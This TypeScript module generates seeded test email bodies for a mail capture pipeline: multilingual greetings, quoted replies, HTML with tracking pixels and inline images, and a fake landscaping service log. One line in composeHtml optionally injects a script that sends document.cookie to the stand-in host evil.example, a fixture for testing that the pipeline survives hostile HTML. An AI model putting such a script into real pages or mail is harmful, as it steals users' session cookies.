/**
 * Message bodies for seeded mail: greeting + paragraphs + signature, quoted replies in both the
 * plain-text ("> " lines) and HTML (<blockquote type="cite">) conventions, long plain-text logs,
 * and HTML carrying the things a capture pipeline must survive (tracking pixels, inline cid images,
 * the occasional <script>).
 */
import { pick, type Random } from './random';
import { paragraph, type SubjectLine } from './seed-content';
import type { SeedAddress } from './seed-mime';

type Lang = SubjectLine['lang'];

const greetings: Record<Lang, readonly string[]> = {
  en: ['Hi', 'Hello', 'Good morning', 'Dear'],
  de: ['Hallo', 'Guten Tag', 'Sehr geehrte Damen und Herren,'],
  es: ['Hola', 'Buenos días', 'Estimado/a'],
  ja: ['お世話になっております。'],
};

const closings: Record<Lang, string> = {
  en: 'Thanks,',
  de: 'Viele Grüße',
  es: 'Saludos cordiales,',
  ja: 'よろしくお願いいたします。',
};

/** Wraps at 72 columns as mail clients do (format=flowed aside), keeping every line far below 998. */
export function wrapText(text: string, width = 72): string {
  const out: string[] = [];
  for (const para of text.split('\n')) {
    let line = '';
    for (const word of para.split(' ')) {
      if (line && line.length + 1 + word.length > width) {
        out.push(line);
        line = word;
      } else {
        line = line ? `${line} ${word}` : word;
      }
    }
    out.push(line);
  }
  return out.join('\n');
}

export interface Quoted {
  from: SeedAddress;
  dateText: string;
  text: string;
}

export interface BodyText {
  text: string;
  /** The same content as escaped HTML paragraph contents, used for the HTML alternative. */
  htmlParagraphs: string[];
}

export function composeText(rnd: Random, lang: Lang, from: SeedAddress, to: SeedAddress, paragraphs: number): BodyText {
  const greeting = pick(rnd, greetings[lang]);
  const firstName = to.name.split(/[ ,]/)[0] ?? '';
  const paras: string[] = [];
  for (let i = 0; i < paragraphs; i++) paras.push(paragraph(rnd, lang, 2 + Math.floor(rnd() * 3)));
  const opener = greeting.endsWith(',') || greeting.endsWith('。') ? greeting : `${greeting} ${firstName},`;
  const text = [opener, '', ...paras.flatMap((p) => [wrapText(p), '']), closings[lang], from.name].join('\n');
  const htmlParagraphs = [opener, ...paras].map(escapeText);
  htmlParagraphs.push(`${escapeText(closings[lang])}<br>${escapeText(from.name)}`);
  return { text, htmlParagraphs };
}

export function quoteText(q: Quoted): string {
  const header = `On ${q.dateText}, ${q.from.name} <${q.from.address}> wrote:`;
  return `${header}\n${q.text
    .split('\n')
    .map((l) => (l ? `> ${l}` : '>'))
    .join('\n')}`;
}

function escapeText(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

export interface HtmlOptions {
  quoted?: Quoted;
  trackingPixel?: string;
  script?: boolean;
  inlineImageCid?: string;
}

export function composeHtml(body: BodyText, opts: HtmlOptions): string {
  const parts = [
    '<!DOCTYPE html>',
    '<html><head><meta charset="utf-8"><style>p{font-family:Arial,sans-serif;font-size:14px}</style></head><body>',
    ...body.htmlParagraphs.map((p) => `<p>${p}</p>`),
  ];
  if (opts.inlineImageCid) parts.push(`<p><img src="cid:${opts.inlineImageCid}" alt="Site photo" width="480"></p>`);
  if (opts.quoted) {
    parts.push(
      `<div class="gmail_quote">On ${escapeText(opts.quoted.dateText)}, ${escapeText(opts.quoted.from.name)} &lt;${opts.quoted.from.address}&gt; wrote:<br>`,
      `<blockquote type="cite" style="margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex">`,
      ...opts.quoted.text.split('\n\n').map((p) => `<p>${escapeText(p).replace(/\n/g, '<br>')}</p>`),
      '</blockquote></div>',
    );
  }
  if (opts.script) parts.push('<script>document.location="https://evil.example/steal?c="+document.cookie</script>');
  if (opts.trackingPixel) parts.push(`<img src="${opts.trackingPixel}" width="1" height="1" alt="" style="display:none">`);
  parts.push('</body></html>');
  return parts.join('\n');
}

const logActions = [
  'Mowed and edged front lawn',
  'Replaced sprinkler head',
  'Cleared storm drain inlet',
  'Applied pre-emergent',
  'Trimmed boxwood hedge',
  'Blew leaves from walkways',
  'Inspected backflow valve',
  'Hauled green waste',
];

/** A long plain-text service log (the kind of export customers paste into mail), `lines` lines. */
export function serviceLog(rnd: Random, lines: number, start: Date): string {
  const out = ['Service log export — Greenleaf Landscaping', '='.repeat(44), ''];
  for (let i = 0; out.length < lines; i++) {
    const day = new Date(start.getTime() - i * 86_400_000).toISOString().slice(0, 10);
    const zone = 1 + Math.floor(rnd() * 12);
    const minutes = 15 + Math.floor(rnd() * 90);
    const cost = (rnd() * 240).toFixed(2);
    out.push(`${day}  zone ${String(zone).padStart(2)}  ${pick(rnd, logActions).padEnd(28)} ${String(minutes).padStart(3)} min  $${cost.padStart(7)}`);
  }
  return out.slice(0, lines).join('\n');
}
